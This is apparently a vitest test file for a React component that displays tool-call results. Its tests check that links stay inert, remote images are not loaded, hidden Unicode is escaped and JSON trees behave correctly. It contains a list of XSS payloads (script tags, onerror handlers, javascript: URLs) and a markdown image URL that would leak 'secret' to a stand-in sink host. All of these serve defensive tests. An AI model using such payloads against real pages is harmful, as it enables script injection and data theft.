import { screen, waitFor, within } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import type { Block, CallResult, CallView, JsonValue } from "../bindings/host";
import { call, foreign, problem, result, textBlock as text } from "../platform/fakeHost/make";
import { expectAxeClean } from "../test/axe";
import { withHeights } from "../test/heights";
import { show } from "../test/show";
import { chunkText } from "./chunkText";
import { jsonRows } from "./JsonTreeRows";
import { ResultView } from "./ResultView";
import { addLines, ROW } from "./ResultViewLines";

withHeights();

function view(over: Partial<CallView> = {}): CallView {
  return call({ id: "c", server: "srv-files", tool: "t", ...over });
}

/** The view of a call with a result of these blocks. */
const showBlocks = (blocks: Block[], over: Partial<CallResult> = {}, of: Partial<CallView> = {}) => {
  const shown = view({ result: result(blocks, over), ...of });
  return show(<ResultView call={shown} />, { prepare: (world) => world.calls.set(shown.id, shown) });
};

describe("a result", () => {
  it("shows every kind of block in a slot of the server", async () => {
    const blocks: Block[] = [
      text("plain words"),
      { kind: "image", mime: "image/png", data: { handle: "i", bytes: 70 } },
      { kind: "audio", mime: "audio/wav", data: { handle: "a", bytes: 70 } },
      { kind: "link", uri: foreign("file:///a.md"), name: foreign("a.md"), description: null, mime: null },
      {
        kind: "resource",
        uri: foreign("file:///b.csv"),
        mime: foreign("text/csv"),
        text: foreign("a,b"),
        whole: null,
        bytes: 3,
      },
      { kind: "unshown", reason: "Its bytes are not a picture.", json: foreign("{}") },
    ];
    await showBlocks(blocks, { more_blocks: 2 });
    expect(screen.getByText("plain words")).toBeVisible();
    expect(await screen.findByRole("img")).toHaveAttribute("src", expect.stringMatching(/^data:image\//));
    expect(await screen.findByLabelText("Audio 3 from the server")).toBeVisible();
    expect(screen.getByText("Its bytes are not a picture.")).toBeVisible();
    expect(screen.getByText(/2 more blocks/)).toBeVisible();
    expect(screen.getAllByRole("figure")).toHaveLength(6);
    await expectAxeClean();
  });

  it("draws hundreds of blocks a few with each frame, and all of them in the end", async () => {
    const blocks = Array.from({ length: 110 }, (_, index) => text(`block ${index + 1}`));
    await showBlocks(blocks);
    expect(screen.getAllByRole("figure").length).toBeLessThan(110);
    expect(screen.getByText("block 1")).toBeVisible();
    expect(await screen.findByText("block 110")).toBeVisible();
    expect(screen.getAllByRole("figure")).toHaveLength(110);
  });

  // Proves TOL-25.
  it("says what is not for a model", async () => {
    const blocks = [text("for both"), text("for you")];
    await showBlocks(blocks, { for_person: [1] });
    expect(screen.getAllByText("for you, not for a model")).toHaveLength(1);
  });

  // Proves S-24.
  it("follows no address and makes no link", async () => {
    const blocks: Block[] = [
      {
        kind: "link",
        uri: foreign("https://evil.example/"),
        name: foreign("x"),
        description: null,
        mime: null,
      },
      text(
        "# Hi\n\n[click](https://evil.example/?d=1) <a href='https://evil.example'>raw</a>\n\n<https://evil.example/auto> www.evil.example",
      ),
    ];
    const { container } = await showBlocks(blocks);
    expect(container.querySelector("a")).toBeNull();
    expect(screen.getByText("https://evil.example/?d=1")).toBeVisible();
  });

  // Proves S-20.
  it("markdown loads no picture and makes no markup", async () => {
    const words =
      "# Hi\n\n![p](https://sink.example/p?d=secret)\n\n<img src=x onerror=alert(1)><script>alert(1)</script>";
    const { container } = await showBlocks([text(words)]);
    expect(container.querySelector("img, script, iframe, style")).toBeNull();
    expect(screen.getByText(/Image “p”/)).toHaveTextContent(
      "Image “p” at https://sink.example/p?d=secret was not loaded",
    );
    expect(screen.getByText(/<script>alert\(1\)<\/script>/)).toBeVisible();
  });

  // Proves S-41.
  it("characters hidden as entities are written out after markdown was read", async () => {
    const words = "# Hi\n\nsafe&#x202e;txt&#8203;end [a&#x2066;](https://x.example/&#x200b;)";
    const { container } = await showBlocks([text(words)]);
    expect(container.textContent).toContain("⟨U+202E⟩txt⟨U+200B⟩end");
    expect(container.textContent).not.toMatch(/[\u200b\u202e\u2066]/);
  });

  it("is plain first when it is not like Markdown, and can be switched when it is", async () => {
    const { user } = await showBlocks([text("- one\n- two **bold**")]);
    expect(screen.getByText("bold").tagName).toBe("STRONG");
    await user.click(screen.getByRole("button", { name: "Plain" }));
    expect(screen.getByText(/- two \*\*bold\*\*/)).toBeVisible();
  });

  // Proves SAM-01.
  it("says in our words what was denied within a call, whatever the server says", async () => {
    const denied = [
      "“Files” sent a model request during this call. You denied this model request. No model received it.",
    ];
    await showBlocks([text("All went well.")], {}, { denied });
    expect(screen.getByText(/You denied this model request/)).toBeVisible();
    expect(screen.getByText("All went well.")).toBeVisible();
  });

  it("says once, and not as a fault, that a denied request ended the call", async () => {
    const denied = [
      "“Files” sent a model request during this call. You denied this model request. No model received it.",
    ];
    const over = problem("protocol.input_required", { sentence: "It ended.", remedy: "Run it again." });
    const { container } = await show(<ResultView call={view({ state: "failed", problem: over, denied })} />);
    const note = screen.getByRole("alert");
    expect(note).toHaveTextContent(`${denied[0]}It ended.Run it again.`);
    expect(note).toHaveClass("noteWait");
    expect(container.querySelectorAll(".note")).toHaveLength(1);
  });

  it("tells a tool that says it failed from a call that failed", async () => {
    const { unmount } = await showBlocks([text("no such file")], {}, { state: "tool_error" });
    expect(screen.getByText(/tool error/)).toBeVisible();
    expect(screen.getByText("no such file")).toBeVisible();
    expect(screen.queryByRole("alert")).toBeNull();
    unmount();
    const silent = await showBlocks([], {}, { state: "tool_error" });
    expect(screen.getByText("The tool reported an error without a message.")).toBeVisible();
    silent.unmount();
    const late = problem("call.timeout", { sentence: "“Files” gave no answer.", remedy: "Try again." });
    await show(<ResultView call={view({ state: "failed", problem: late })} />);
    expect(screen.getByRole("alert")).toHaveTextContent("“Files” gave no answer.");
    expect(screen.queryByText(/The tool says/)).toBeNull();
  });

  // Proves AUT-59.
  it.each([
    ["auth.ended", "Sign in…"],
    ["auth.more", "Review…"],
  ])("leads from %s to the review of a sign-in", async (code, name) => {
    await show(
      <ResultView call={view({ state: "failed", problem: problem(code, { sentence: "It ended." }) })} />,
    );
    expect(screen.getByRole("link", { name })).toHaveAttribute(
      "href",
      expect.stringMatching(/\/account\/sign-in$/),
    );
  });

  it("says whether structured content matches its schema, and what does not", async () => {
    const { user } = await showBlocks([text("x")], {
      structured: { files: ["a"] },
      matches_schema: false,
      mismatch: [{ path: "/files", message: "has too few" }],
    });
    expect(screen.getByText("does not match its output schema")).toBeVisible();
    await user.click(screen.getByRole("tab", { name: "Structured" }));
    expect(screen.getByText(/has too few/)).toBeVisible();
    const tree = screen.getByRole("tree", { name: "Structured content" });
    expect(await within(tree).findByText("files")).toBeVisible();
    await expectAxeClean();
  });

  it("10 MiB of text arrive in pieces, stay virtual and end", async () => {
    const chunk = `${"x".repeat(62)}\n`.repeat(4096);
    const bytes = chunk.length * 40;
    const whole = { handle: "big", bytes };
    const block: Block = { kind: "text", text: foreign("the beginning"), whole, bytes };
    const { user, fake, container } = await showBlocks([block]);
    fake.reply("read_payload", ({ offset }) => {
      const next = offset + chunk.length;
      return { text: chunk, next: next < bytes ? next : null, bytes };
    });
    await user.click(screen.getByRole("button", { name: "Show all, 9.8 MiB" }));
    await waitFor(() => expect(screen.getByText("9.8 MiB, 163,841 lines")).toBeVisible());
    expect(container.querySelectorAll("*").length).toBeLessThan(400);
  });

  it("one line is not several", async () => {
    const whole = { handle: "one", bytes: 6 };
    const block: Block = { kind: "text", text: foreign("only"), whole, bytes: 6 };
    const { user, fake } = await showBlocks([block]);
    fake.reply("read_payload", () => ({ text: "only 1", next: null, bytes: 6 }));
    await user.click(screen.getByRole("button", { name: /^Show all/ }));
    expect(await screen.findByText(/, 1 line$/)).toBeVisible();
  });
});

// Proves S-19.
describe("payloads in a result", () => {
  const payloads = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg/onload=window.__pwned=1>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<a href=javascript:window.__pwned=1 target=_top>x</a>",
    "[x](javascript:window.__pwned=1)",
    "![x](data:text/html,<script>window.__pwned=1</script>)",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input type=submit></form>",
    "[ref]: javascript:window.__pwned=1\n\n[ref]",
    "<details open ontoggle=window.__pwned=1>",
  ];
  it.each(payloads)("%s stays text", async (payload) => {
    const words = foreign(payload);
    const blocks: Block[] = [
      text(payload),
      text(`# Like Markdown\n\n${payload}`),
      { kind: "link", uri: words, name: words, description: words, mime: words },
      { kind: "unshown", reason: "no", json: words },
    ];
    const { container } = await showBlocks(blocks, {}, { outcome: payload });
    expect(
      container.querySelector("a, script, img, iframe, svg[onload], style, meta, form, input, details"),
    ).toBeNull();
    expect((window as { __pwned?: unknown }).__pwned).toBeUndefined();
  });
});

describe("lines", () => {
  it("lays a long text out in portions, of which nothing is missing", () => {
    expect(chunkText("one\ntwo\nthree", 8)).toEqual(["one\ntwo", "three"]);
    expect(chunkText("x".repeat(25), 10)).toEqual(["x".repeat(10), "x".repeat(10), "x".repeat(5)]);
    expect(chunkText("", 10)).toEqual([""]);
    expect(chunkText("\n\n\n", 2).join("\n")).toBe("\n\n\n");
  });

  it("join across pieces, and one without end is broken", () => {
    const lines: string[] = [];
    addLines(lines, "a\nb");
    addLines(lines, "c\r\nd");
    expect(lines).toEqual(["a", "bc", "d"]);
    const long: string[] = [];
    addLines(long, "x".repeat(ROW * 3 + 5));
    expect(long.map((line) => line.length)).toEqual([ROW, ROW, ROW, 5]);
    const pair: string[] = [];
    addLines(pair, `${"x".repeat(ROW - 1)}😀y`);
    expect(pair.join("")).toBe(`${"x".repeat(ROW - 1)}😀y`);
    expect(pair.every((line) => !/[\ud800-\udbff]$/.test(line))).toBe(true);
  });
});

describe("the tree", () => {
  it("of a value 50,000 levels deep is made without recursion", () => {
    let deep: JsonValue = "end";
    for (let level = 0; level < 50_000; level += 1) deep = [deep];
    expect(jsonRows(deep, () => true)).toHaveLength(50_001);
  });

  it("opens and closes by key, and keeps a name called __proto__ apart", async () => {
    const value = JSON.parse('{"__proto__":{"a":1},"b":[1,2,3]}') as JsonValue;
    const { user } = await showBlocks([], { structured: value });
    const tree = await screen.findByRole("tree");
    expect(await within(tree).findByText("__proto__")).toBeVisible();
    tree.focus();
    const before = within(tree).getAllByRole("treeitem").length;
    await user.keyboard("{ArrowDown}{ArrowLeft}");
    expect(within(tree).getAllByRole("treeitem")).toHaveLength(before - 1);
    await user.keyboard("{ArrowRight}");
    expect(within(tree).getAllByRole("treeitem")).toHaveLength(before);
  });

  it("offers the path of each part, and none of the whole", async () => {
    await showBlocks([], { structured: { a: 1 } });
    const rows = within(await screen.findByRole("tree")).getAllByRole("treeitem");
    const offers = rows.map((row) => within(row).queryByRole("button", { name: "Copy path" }) !== null);
    expect(offers).toEqual([false, true]);
  });

  it("takes the keys from the row that was pressed", async () => {
    const { user } = await showBlocks([], { structured: { a: { b: 1 }, c: { d: 2 } } });
    const tree = await screen.findByRole("tree");
    await user.click(await within(tree).findByText("c"));
    expect(tree).toHaveFocus();
    await user.keyboard("{ArrowLeft}");
    expect(within(tree).queryByText("d")).toBeNull();
    expect(within(tree).getByText("b")).toBeVisible();
    const [, a] = within(tree).getAllByRole("treeitem");
    await user.click(within(a as HTMLElement).getByRole("button", { name: "Collapse" }));
    expect(within(tree).queryByText("b")).toBeNull();
    await user.keyboard("{ArrowDown}{ArrowRight}");
    expect(within(tree).getByText("d")).toBeVisible();
  });

  // A browser selects no text from a press whose focus is moved on.
  it("takes the focus itself where a row is pressed", async () => {
    const { user } = await showBlocks([], { structured: { a: { b: 1 } } });
    const tree = await screen.findByRole("tree");
    const name = await within(tree).findByText("b");
    const focused: (EventTarget | null)[] = [];
    tree.addEventListener("focusin", (event) => focused.push(event.target));
    await user.pointer({ keys: "[MouseLeft>]", target: name });
    expect(focused).toEqual([tree]);
  });

  it("cuts a long text between its characters", async () => {
    await showBlocks([], { structured: { a: `${"x".repeat(299)}\u{1f600}y` } });
    const tree = await screen.findByRole("tree");
    expect(await within(tree).findByRole("button", { name: /3 more/ })).toBeVisible();
    expect(tree).not.toHaveTextContent("ud83d");
  });
});
